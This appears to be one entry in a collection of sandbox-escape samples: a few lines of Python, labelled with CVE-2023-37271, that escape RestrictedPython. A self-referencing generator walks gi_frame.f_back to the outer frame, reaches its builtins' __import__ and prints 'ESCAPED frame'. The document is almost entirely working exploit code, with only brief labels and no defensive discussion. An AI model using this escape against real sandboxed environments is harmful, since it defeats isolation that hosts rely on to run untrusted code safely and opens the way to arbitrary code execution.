# technique: a generator expression looks at itself
# goal: frames
# source: RestrictedPython, CVE-2023-37271
me = (me.gi_frame.f_back for _ in [0])
frame = [x for x in me][0]
if frame.f_builtins['__import__']:
    print('ESCAPED frame')
